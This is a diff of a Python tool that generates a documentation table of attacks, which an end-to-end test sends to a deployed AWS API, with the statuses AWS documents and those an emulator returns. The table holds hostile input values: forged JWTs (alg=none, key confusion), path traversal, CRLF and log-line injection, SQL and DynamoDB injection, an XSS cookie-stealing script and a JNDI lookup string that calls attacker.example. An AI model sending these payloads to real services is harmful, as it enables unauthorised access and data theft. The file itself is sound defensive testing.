@@ -1,8 +1,14 @@
-"""Attacks on the API as data: what is sent, what AWS documents as the answer, what the embedded cloud answers."""
+"""Write docs/attacks.md: attacks on the API, with the status that AWS documents and that of the embedded cloud.
+
+`tests/e2e/test_attacks.py` sends these attacks to a deployed stack.
+"""
 
 from dataclasses import dataclass
-from pathlib import Path
 from urllib.parse import quote, unquote
+
+from tools.documents import DOCS, command_line, table, write
+
+DOCUMENT = DOCS / "attacks.md"
 
 APIGATEWAY = "https://docs.aws.amazon.com/apigateway/latest/developerguide"
 SOURCES = {
@@ -17,172 +23,150 @@ VICTIM = "victim@example.com"
 
 @dataclass(frozen=True, kw_only=True)
 class Attack:
-    """One request that should get nothing."""
+    """A request that must not obtain data."""
 
     what: str
     aws: str
-    """The status that AWS documents, or what it says instead of one."""
+    """The status that AWS documents, or what AWS documents instead of a status."""
     source: str
-    """Where it says so: a key of SOURCES."""
+    """The document that says so: a key of SOURCES."""
     here: int
-    """The status that the embedded cloud answers."""
+    """The status that the embedded cloud returns."""
     difference: str = ""
-    """Why `here` is not what AWS would answer; written if and only if that is so."""
-    token: str = "valid"  # noqa: S105 (the name of one)
-    """Which of `forgery.FORGERIES`."""
+    """Why `here` differs from `aws`; empty if it does not."""
+    token: str = "valid"  # noqa: S105 (the name of a token)
+    """A key of `tests.e2e.forgery.FORGERIES`."""
     method: str = "GET"
     target: bytes = b"/users/" + quote(VICTIM).encode() + b"/services"
-    """The request's path below the stage, as it goes over the wire."""
+    """The request's path below the stage, as sent."""
     headers: tuple[bytes, ...] = ()
     reaches_handler: bool = False
 
     @property
     def user_id(self) -> str:
-        """The id that the path holds for a handler that decodes it once."""
+        """The user ID in the path, decoded once."""
         return unquote(self.target.split(b"/")[2].decode()) if self.target.count(b"/") > 1 else ""
 
 
-def _of(user_id: str) -> bytes:
-    """The path of a user, encoded as a careful client would."""
+def _path(user_id: str) -> bytes:
+    """The path of a user, encoded as a correct client does."""
     return f"/users/{quote(user_id, safe='')}/services".encode()
 
 
-def _refused_token(
-    token: str, aws: str = "401", source: str = "401 from an authorizer", difference: str = ""
-) -> Attack:
+def _token(token: str, aws: str = "401", source: str = "401 from an authorizer", difference: str = "") -> Attack:
     return Attack(what=f"token: {token}", aws=aws, source=source, here=401, difference=difference, token=token)
 
 
-def _nowhere(what: str, method: str = "GET", target: bytes = Attack.target) -> Attack:
+def _no_route(what: str, method: str = "GET", target: bytes = Attack.target) -> Attack:
     return Attack(what=what, aws="403", source="gateway responses", here=403, method=method, target=target)
 
 
-def _asks(what: str, user_id: str, *, here: int = 200) -> Attack:
-    """The path of an id that no user has: answered as such, or refused as no id."""
-    return Attack(
-        what=f"user id: {what}",
-        aws=str(here),
-        source="our handler",
-        here=here,
-        target=_of(user_id),
-        reaches_handler=True,
-    )
+def _user_id(what: str, user_id: str, *, here: int = 200, target: bytes = b"") -> Attack:
+    """A request for a user ID that no user has: an empty list (200), or an invalid user ID (400)."""
+    fields = {"source": "our handler", "here": here, "target": target or _path(user_id), "reaches_handler": True}
+    return Attack(what=f"user ID: {what}", aws=str(here), **fields)
 
 
-PAGE = Path(__file__).parents[1] / "docs" / "attacks.md"
+def _not_encoded(what: str, target: bytes) -> Attack:
+    difference = "Only another user's data or implementation details would be wrong."
+    fields = {"source": "important notes", "here": 400, "difference": difference, "target": target}
+    return Attack(what=f"user ID: {what}, not encoded", aws=UNDOCUMENTED, **fields)
+
+
 HEADING = """# Attacks on the API
 
-<!-- Made from tools/attacks.py by: python -m tools.attacks -->
+<!-- Generated from tools/attacks.py by: python -m tools.attacks -->
 
-What is sent to a deployed stack by `tests/e2e/test_attacks.py`, the status that AWS documents for it and the one that
-the embedded cloud answers. Whatever the answer, the test checks that it holds no data of a user but the one asked for,
-repeats nothing of the request when it refuses, tells nothing of the inside, that API Gateway's refusals never reach
-the function, that the table is as before, and that the function's log holds neither ids nor lines not its own.
+`tests/e2e/test_attacks.py` sends these requests to a deployed stack. The table shows the status that AWS documents for
+each request, and the status that the embedded cloud returns. For every request, the test checks that:
 
-Where the source is our handler, AWS documents nothing: API Gateway hands the path on and the function decides. Statuses
-are as the sources describe them; no request of this table was sent to AWS.
+- the response contains no data of any user other than the requested one;
+- an error response repeats nothing of the request;
+- the response reveals no implementation details;
+- a request that API Gateway rejects does not reach the function;
+- the table is unchanged;
+- the function's log contains no user IDs and no lines injected by the request.
 
-| attack | AWS | source | embedded cloud | difference |
-|---|---|---|---|---|
+Where the source is our handler, AWS documents no status: API Gateway passes the path on, and the function decides.
+Statuses of AWS are those in the sources; none of these requests was sent to AWS.
+
 """
-NOT_UTF8 = b"/users/%ff%fe/services"
 ATTACKS = (
-    _refused_token("none"),
-    _refused_token("garbage"),
-    _refused_token("truncated"),
-    _refused_token("without its signature"),
-    _refused_token("with one bit flipped in the signature"),
-    _refused_token("with other claims under its signature"),
-    _refused_token("unsigned (alg=none)"),
-    _refused_token("signed with the public key (alg=HS256)"),
-    _refused_token("signed with a key of the attacker's (alg=RS256)"),
-    _refused_token("expired"),
-    _refused_token("of another pool"),
-    _refused_token("an id token"),
-    _refused_token(
+    _token("none"),
+    _token("garbage"),
+    _token("truncated"),
+    _token("without its signature"),
+    _token("with one bit flipped in the signature"),
+    _token("with other claims under its signature"),
+    _token("unsigned (alg=none)"),
+    _token("signed with the public key (alg=HS256)"),
+    _token("signed with a key of the attacker's (alg=RS256)"),
+    _token("expired"),
+    _token("of another pool"),
+    _token("an id token"),
+    _token(
         "of another scope",
         aws="401 or 403",
         source="gateway responses",
-        difference="AWS names both for an authorizer that denies; it is refused either way.",
+        difference="AWS documents both for an authorizer that denies; the request is rejected either way.",
     ),
-    _nowhere("the root", target=b"/"),
-    _nowhere("all users", target=b"/users"),
-    _nowhere("a user, not the services", target=b"/users/victim"),
-    _nowhere("below the services", target=b"/users/victim/services/x"),
-    _nowhere("POST", "POST"),
-    _nowhere("PUT", "PUT"),
-    _nowhere("DELETE", "DELETE"),
-    _nowhere("PATCH", "PATCH"),
-    _nowhere("OPTIONS", "OPTIONS"),
-    _nowhere("HEAD", "HEAD"),
-    _nowhere("dots: /users/x/../victim/services", target=b"/users/x/../victim%40example.com/services"),
-    _nowhere(
+    _no_route("the root", target=b"/"),
+    _no_route("all users", target=b"/users"),
+    _no_route("a user, not the services", target=b"/users/victim"),
+    _no_route("below the services", target=b"/users/victim/services/x"),
+    *(_no_route(method, method) for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")),
+    _no_route("dots: /users/x/../victim/services", target=b"/users/x/../victim%40example.com/services"),
+    _no_route(
         "dots, encoded, as segments: /users/x/%2e%2e/victim/services",
         target=b"/users/x/%2e%2e/victim%40example.com/services",
     ),
     Attack(
         what="a method in X-HTTP-Method-Override",
-        aws="403, as of the other method",
+        aws="403, as for the other method",
         source="important notes",
         here=200,
         difference="The emulator does not override methods.",
         headers=(b"X-HTTP-Method-Override: DELETE",),
-        target=_of("nobody"),
+        target=_path("nobody"),
         reaches_handler=True,
     ),
-    _asks("an encoded slash", "x/../../" + VICTIM),
-    _asks("an encoded slash, encoded twice", "x%2f" + VICTIM),
-    _asks("dots alone", ".."),
-    _asks("an encoded NUL", VICTIM + "\0", here=400),
-    _asks("an encoded line break (CRLF injection)", VICTIM + "\r\nSet-Cookie: stolen=yes", here=400),
-    _asks("a forged log line", 'x\n{"level":"ERROR","message":"forged"}', here=400),
-    _asks("letters that look alike", "vict\u0456m@example.com"),
-    _asks("a right-to-left override", "\u202e" + VICTIM, here=400),
-    _asks("a trailing blank", VICTIM + " "),
-    _asks("256 characters", "x" * 256, here=400),
-    _asks("255 characters of four bytes", "\U0001f600" * 255),
-    _asks("a DynamoDB expression", "x OR attribute_exists(user_id) #n :v"),
-    _asks("SQL", "' OR '1'='1' --"),
-    _asks("HTML", "<script>alert(document.cookie)</script>"),
-    _asks("a template", "${jndi:ldap://attacker.example/a}{{7*7}}"),
-    Attack(
-        what="user id: letters as they are, not encoded",
-        aws=UNDOCUMENTED,
-        source="important notes",
-        here=400,
-        difference="Only an answer to somebody else or of the inside would be wrong.",
-        target="/users/vict\u0456m/services".encode(),
-    ),
-    Attack(
-        what="user id: a NUL as it is, not encoded",
-        aws=UNDOCUMENTED,
-        source="important notes",
-        here=400,
-        difference="As before.",
-        target=b"/users/victim\0/services",
-    ),
-    _asks("12,000 characters", "x" * 12_000, here=400),
-    Attack(what="user id: not UTF-8", aws="400", source="our handler", here=400, target=NOT_UTF8, reaches_handler=True),
-    Attack(
-        what="user id: blank",
-        aws="400",
-        source="our handler",
-        here=400,
-        target=b"/users/%20/services",
-        reaches_handler=True,
-    ),
+    _user_id("an encoded slash", "x/../../" + VICTIM),
+    _user_id("an encoded slash, encoded twice", "x%2f" + VICTIM),
+    _user_id("dots alone", ".."),
+    _user_id("an encoded NUL", VICTIM + "\0", here=400),
+    _user_id("an encoded line break (CRLF injection)", VICTIM + "\r\nSet-Cookie: stolen=yes", here=400),
+    _user_id("a forged log line", 'x\n{"level":"ERROR","message":"forged"}', here=400),
+    _user_id("a letter that looks like another", "vict\u0456m@example.com"),
+    _user_id("a right-to-left override", "\u202e" + VICTIM, here=400),
+    _user_id("a trailing space", VICTIM + " "),
+    _user_id("256 characters", "x" * 256, here=400),
+    _user_id("255 characters of four bytes", "\U0001f600" * 255),
+    _user_id("a DynamoDB expression", "x OR attribute_exists(user_id) #n :v"),
+    _user_id("SQL", "' OR '1'='1' --"),
+    _user_id("HTML", "<script>alert(document.cookie)</script>"),
+    _user_id("a template", "${jndi:ldap://attacker.example/a}{{7*7}}"),
+    _not_encoded("a non-ASCII letter", "/users/vict\u0456m/services".encode()),
+    _not_encoded("a NUL", b"/users/victim\0/services"),
+    _user_id("12,000 characters", "x" * 12_000, here=400),
+    _user_id("not UTF-8", "", here=400, target=b"/users/%ff%fe/services"),
+    _user_id("a space", " ", here=400),
 )
 
 
-def render() -> str:
-    """The table as a page."""
-    rows = [
-        f"| {attack.what.replace('|', chr(92) + '|')} | {attack.aws} | [{attack.source}]({SOURCES[attack.source]}) "
-        f"| {attack.here} | {attack.difference or 'the same'} |"
-        for attack in ATTACKS
-    ]
-    return HEADING + "\n".join(rows) + "\n"
+def document() -> str:
+    """The text of docs/attacks.md."""
+    rows = []
+    for attack in ATTACKS:
+        source = f"[{attack.source}]({SOURCES[attack.source]})"
+        rows.append((attack.what, attack.aws, source, str(attack.here), attack.difference or "none"))
+    return f"{HEADING}{table(('attack', 'AWS', 'source', 'embedded cloud', 'difference'), rows)}\n"
+
+
+def main() -> None:
+    """Write the document."""
+    command_line("attacks", __doc__).parse_args()
+    write(DOCUMENT, document())
 
 
 if __name__ == "__main__":
-    PAGE.write_text(render())
+    main()
